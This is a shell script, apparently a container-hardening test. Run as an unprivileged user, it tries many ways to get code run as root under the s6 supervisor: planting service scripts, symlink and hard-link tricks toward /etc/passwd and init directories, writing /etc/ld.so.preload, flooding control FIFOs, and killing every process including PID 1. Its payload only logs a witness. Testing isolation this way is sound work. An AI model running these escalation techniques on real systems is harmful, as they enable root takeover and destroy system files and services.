#!/bin/sh
# Runs inside a live container, as hermes: `_attack.sh STEP` tries one thing that
# might get code run as root. What it plants says who runs it in
# $witness/log, and root says it in /run/witness-of-root, too, where hermes
# cannot write. Prints how often the step succeeded.
home=/opt/data witness=/opt/data/witness
scandirs="/run/service /run/hermes/service /run/s6-rc/servicedirs /run/s6/legacy-services /run/hermes
/etc/s6-overlay/s6-rc.d /etc/services.d /etc/cont-init.d /etc/cont-finish.d /run/s6 $home /tmp"
done=0
# It is the container's /proc only if there is a self.
[ -d /proc/self ] && [ "$(id -u)" -ne 0 ] || exit 100
mkdir -p "$witness"

# Prints a script for a label.
payload() {
  echo "#!/bin/sh
uid=\$(id -u)
echo \"\$uid $1\" >>$witness/log
[ \"\$uid\" -ne 0 ] || echo '$1' >>/run/witness-of-root
case \$0 in *finish* | *crash* | *SIG* | *check*) exit 0 ;; esac
exec sleep 1000"
}

# Plants a script for a label at a path: beside it and renamed over, else into it.
plant() {
  new=$2.new
  { payload "$1" >"$new" && chmod 755 "$new" && mv -f "$new" "$2"; } 2>/dev/null ||
    { [ -f "$2" ] && payload "$1" >"$2"; } 2>/dev/null || return
  done=$((done + 1))
}

try() {
  "$@" 2>/dev/null && done=$((done + 1))
}

# Every directory that is, or could be taken for, a service's.
services() {
  for scandir in $scandirs; do
    for dir in "$scandir"/*/ "$scandir"/.s6-svscan/ "$scandir"/.hermes/*/; do
      case $dir in *\** | *evil* | "$witness"/*) continue ;; esac
      echo "$dir"
    done
  done
}

new_service_directories() {
  for scandir in $scandirs; do
    for name in evil gateway-evil .evil; do
      dir=$scandir/$name
      mkdir -p "$dir/log" 2>/dev/null || continue
      for file in run finish log/run log/finish; do plant "new service directory" "$dir/$file"; done
      echo longrun >"$dir/type"
    done
    mkdir -p /tmp/linked && plant "linked service directory" /tmp/linked/run
    try ln -s /tmp/linked "$scandir/evil-link"
  done
  for dir in /run/service /run/hermes/service; do
    for name in finish crash SIGTERM SIGHUP SIGUSR1 SIGINT SIGQUIT; do
      plant "script of s6-svscan" "$dir/.s6-svscan/$name"
    done
  done
}

changed_scripts() {
  for dir in $(services); do
    for file in run finish data/check; do
      plant "changed $file" "$dir$file"
      [ ! -d "${dir}log" ] || plant "changed log/$file" "${dir}log/$file"
    done
    for file in down type notification-fd timeout-kill down-signal max-death-tally; do
      # shellcheck disable=SC2016 # the inner shell's
      try sh -c 'echo 3 >"$1"' sh "$dir$file"
    done
  done
}

swapped_supervise() {
  for dir in $(services); do
    for name in supervise event log/supervise log/event; do
      [ -d "$dir$name" ] || continue
      try mv "$dir$name" "$dir$name.old" || continue
      try cp -a "$dir$name.old" "$dir$name"
      rm -rf "$dir$name/control"
      try ln -s /run/service/s6rc-oneshot-runner/supervise/control "$dir$name/control"
    done
    try mv "${dir%/}" "${dir%/}.old" || continue
    try cp -a "${dir%/}.old" "${dir%/}"
  done
}

links() {
  for name in profiles logs logs/gateways state evil gateway.pid processes.json config.yaml \
    gateway_state.json gateway_state.json.new logs/container-boot.log .env SOUL.md; do
    for target in /etc/cont-init.d /etc/passwd /etc /run/service /usr/local/bin/hermes; do
      rm -rf "${home:?}/linked-$name" 2>/dev/null
      try ln -s "$target" "$home/$name.${target##*/}"
      try ln "$target" "$home/$name.hard.${target##*/}"
    done
  done
  for dir in $(services); do
    try ln -sf /etc/passwd "${dir}lock"
    try ln -sf /usr/local/bin/hermes "${dir}data"
    try ln /etc/passwd "${dir}hard"
  done
  for target in /etc /etc/cont-init.d /usr/local/bin /run/service /opt/hermes-boot; do
    name=x$(echo "$target" | tr / -)
    try ln -s "$target" "$home/profiles/$name"
    try mkdir -p "$home/profiles/dir$name" && : >"$home/profiles/dir$name/SOUL.md"
    try ln -s "$target" "$home/profiles/dir$name/state"
    try ln -s "$target" "$home/profiles/dir$name/gateway_state.json"
    try ln -s "$target" "$home/logs/gateways/dir$name"
  done
  try mkfifo "$home/processes.json"
  rm -f "$home/logs/container-boot.log"
  try ln -s /etc/passwd "$home/logs/container-boot.log"
  mv "$home/logs/gateways" "$home/logs/gateways.old"
  try ln -s /etc/cont-init.d "$home/logs/gateways"
}

# s6-supervise opens each ftrig1:... in event/ and writes a letter: u, d, D, ...
links_for_events() {
  n=0
  # shellcheck disable=SC2044 # no name below /run has a space
  for event in $(find /run -type d -name event -writable 2>/dev/null); do
    for target in /run/canary /etc/passwd /run/service/.s6-svscan/control \
      /run/service/s6rc-oneshot-runner/supervise/control \
      /run/service/s6-linux-init-shutdownd/supervise/control; do
      n=$((n + 1))
      try ln -s "$target" "$event/ftrig1:@$(printf %024d $n):abcdef"
    done
  done
  changed=0
  for letter in u k d; do
    for dir in $(services); do
      [ -p "${dir}supervise/control" ] || continue
      before=$(since "$dir") || continue
      try timeout 5 s6-svc "-$letter" "$dir" || continue
      # What is up stays so, what is down too: nothing to wait for.
      case $letter:$before in u:-1* | k:[0-9]* | d:[0-9]*) until_changed "$dir" "$before" ;; esac
    done
  done
  # An event is written when a service changes: without one nothing was tried.
  [ "$changed" -gt 0 ] || { echo "no service has changed" >&2 && exit 1; }
}

# Prints the PID of a service, -1 when it is down, and since when.
since() {
  s6-svstat -o pid,updownsince "$1" 2>/dev/null
}

# Waits until s6-svstat says otherwise than before, for 10 s.
until_changed() {
  tries=0
  while [ "$(since "$1")" = "$2" ]; do
    [ "$tries" -lt 100 ] || return
    tries=$((tries + 1))
    sleep 0.1
  done
  changed=$((changed + 1))
}

whatever_is_writable() {
  find / \( -path /proc -o -path /sys -o -path /dev -o -path "$witness" \) -prune -o -writable \
    \( -type f -perm -100 -o -type d \) -print 2>/dev/null >/tmp/writable
  # shellcheck disable=SC2094 # it does not write to what it reads
  while read -r path; do
    case $path in /tmp/writable | "$witness"*) continue ;; esac
    if [ -f "$path" ]; then plant "overwritten script" "$path"; continue; fi
    for name in run finish sh id deno s6-setuidgid hermes deno.json up down crash; do
      [ -e "$path/$name" ] || plant "script with a known name" "$path/$name"
    done
  done </tmp/writable
  for path in /etc/ld.so.preload /run/s6/container_environment/PATH /root/.profile /etc/passwd \
    /run/s6-rc/state /opt/hermes-boot/tasks/hermes_setup.js /etc/cont-init.d/00-evil; do
    plant "root's file" "$path"
  done
  for dir in /run/service /run/hermes /run /etc /opt /usr/local/bin; do
    try mv "$dir" "$dir.old"
  done
}

gentle() {
  for dir in /run/service /run/hermes/service; do try timeout 5 s6-svscanctl -a "$dir"; done
  for dir in $(services); do
    for one in "$dir" "${dir}log"; do
      [ -p "$one/supervise/control" ] && try timeout 5 s6-svc -T1000 -u "$one" &&
        try timeout 5 s6-svc -T1000 -k "$one"
    done
  done
}

# Last what undoes a SIGSTOP.
letters="a b d D e f g h i j k l m n o O p q Q r s t v w x X y z 0 1 2 3 P A C H K N S T Z c u U"

control_fifos() {
  find / \( -path /proc -o -path /sys -o -path /dev \) -prune -o -type p -writable -print \
    2>/dev/null >/tmp/fifos
  for letter in $letters; do
    while read -r fifo; do
      # Read and write: without a reader that does not wait.
      # shellcheck disable=SC2016 # the inner shell's
      try timeout 5 sh -c 'printf %s "$1" 1<>"$2"' sh "$letter" "$fifo"
    done </tmp/fifos
    for dir in /run/service /run/hermes/service; do
      try timeout 5 s6-svscanctl "-$letter" "$dir" </dev/null
    done
    for dir in $(services); do
      [ -p "${dir}supervise/control" ] && try timeout 5 s6-svc "-$letter" "$dir" </dev/null
    done
  done
}

kill_all() {
  for dir in /proc/[0-9]*; do
    pid=${dir#/proc/}
    [ "$pid" -eq 1 ] || [ "$pid" -eq $$ ] || try kill -s KILL "$pid"
  done
  try kill -s KILL 1
}

"$1"
echo "$1: $done"
